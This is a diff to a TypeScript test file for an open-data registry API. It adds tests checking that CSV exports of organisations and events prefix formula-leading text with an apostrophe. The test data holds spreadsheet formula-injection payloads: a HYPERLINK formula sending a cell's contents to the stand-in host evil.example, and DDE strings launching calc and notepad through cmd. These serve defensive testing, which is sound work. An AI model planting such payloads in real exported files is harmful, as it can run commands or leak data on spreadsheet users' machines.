@@ -1,5 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { beforeAll, describe, expect, it } from 'vitest';
+import { toCsv } from '../src/modules/open-data/csv';
+import { at, kyivDate, world } from './booking-fixture';
 import { act, applyAs, verifiedOrg } from './org-fixture';
 import {
   buildTestApp,
@@ -10,6 +12,9 @@ import {
   type TestUser,
   unique,
 } from './helper';
+
+/** What a text cell must read in the CSV: OWASP's apostrophe before a formula's first character. */
+const asCsvText = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
 
 let t: TestApp;
 let admin: TestUser;
@@ -78,10 +83,18 @@ describe('open data: the registry', () => {
     expect(fromCsv.description_uk).toBe('Рядок перший,\r\nрядок другий з "лапками"; і крапкою з комою');
     expect(fromCsv.activities?.split(';')).toEqual(fromJson.activities);
     expect(fromCsv.social?.split(';')).toEqual(['https://facebook.com/paws', 'https://instagram.com/paws']);
-    // Every CSV row equals its JSON record once arrays are joined and nulls are empty.
+    // Every CSV row equals its JSON record once arrays are joined, nulls are empty and text that
+    // a spreadsheet would run as a formula carries its leading apostrophe.
     const flat = (r: Record<string, unknown>) =>
       Object.fromEntries(
-        Object.entries(r).map(([k, v]) => [k, v === null ? '' : Array.isArray(v) ? v.join(';') : String(v)]),
+        Object.entries(r).map(([k, v]) => [
+          k,
+          v === null
+            ? ''
+            : typeof v === 'number'
+              ? String(v)
+              : asCsvText(Array.isArray(v) ? v.join(';') : String(v)),
+        ]),
       );
     for (const record of json.records) expect(rows.find((r) => r.id === record.id)).toEqual(flat(record));
 
@@ -128,5 +141,83 @@ describe('open data: the registry', () => {
       404,
       'not_found',
     );
+  });
+});
+
+describe('open data: CSV cells a spreadsheet would run', () => {
+  const parseCsv = (body: string): Record<string, string>[] => parse(body, { columns: true });
+
+  it('organizations.csv neutralises formulas in text and leaves JSON and numbers as they are', async () => {
+    const owner = await createUser(t);
+    const formula = `=HYPERLINK("http://evil.example/?"&A1,"Click") ${unique()}`;
+    const org = await verifiedOrg(t, owner, admin, {
+      nameUk: formula,
+      nameEn: `+${unique()} cmd|' /C calc'!A0`,
+      address: '-2+3 вул. Тестова, 1',
+      descriptionUk: '@SUM(1+1)*cmd',
+      descriptionEn: '-1+1 (the registry trims tabs and line breaks from the edges)',
+      yearFounded: 2015,
+      contacts: { phone: '+380 44 123 45 67', email: 'safe@example.org' },
+    });
+    const csv = await inject(t, { method: 'GET', url: '/api/v1/open-data/organizations.csv' });
+    const row = parseCsv(csv.body).find((r) => r.id === org.id)!;
+    expect(row).toMatchObject({
+      name_uk: `'${formula}`,
+      address: "'-2+3 вул. Тестова, 1",
+      description_uk: "'@SUM(1+1)*cmd",
+      description_en: "'-1+1 (the registry trims tabs and line breaks from the edges)",
+      phone: "'+380 44 123 45 67",
+      email: 'safe@example.org',
+      year_founded: '2015',
+    });
+    expect(row.name_en).toMatch(/^'\+/);
+    // No cell of the whole download starts a formula.
+    for (const r of parseCsv(csv.body)) {
+      for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    // JSON is data for programs, not spreadsheets: it keeps the name exactly.
+    const json = (await inject(t, { method: 'GET', url: '/api/v1/open-data/organizations.json' })).json();
+    expect(json.records.find((r: { id: string }) => r.id === org.id).name_uk).toBe(formula);
+  });
+
+  it('events.csv neutralises event titles', async () => {
+    const w = await world(t);
+    const d = kyivDate(33);
+    const res = await inject(t, {
+      method: 'POST',
+      url: '/api/v1/events',
+      as: w.manager,
+      payload: {
+        booking: { roomId: w.roomId, organizationId: w.orgId, start: at(d, '10:00'), end: at(d, '12:00') },
+        title: { uk: `=cmd|' /C notepad'!A1 ${unique()}`, en: '@SUM(A1:A9)' },
+        category: 'meeting',
+        capacity: 12,
+      },
+    });
+    expect(res.statusCode, res.body).toBe(201);
+    const csv = await inject(t, { method: 'GET', url: '/api/v1/open-data/events.csv' });
+    const row = parseCsv(csv.body).find((r) => r.id === res.json().id)!;
+    expect(row.title_uk).toBe(`'${res.json().title.uk}`);
+    expect(row.title_en).toBe("'@SUM(A1:A9)");
+    expect(row.capacity).toBe('12');
+  });
+
+  it('numbers stay numbers, negative ones too; only text is prefixed, tab and carriage return included', () => {
+    const body = toCsv(
+      ['count', 'latitude', 'longitude', 'label', 'tab', 'cr', 'list', 'plain'],
+      [[-3, 50.45, -0.1275, '-3', '\tx', '\r=1', ['@a', 'b'], 'a=b']],
+    );
+    expect(parseCsv(body)).toEqual([
+      {
+        count: '-3',
+        latitude: '50.45',
+        longitude: '-0.1275',
+        label: "'-3",
+        tab: "'\tx",
+        cr: "'\r=1",
+        list: "'@a;b",
+        plain: 'a=b',
+      },
+    ]);
   });
 });
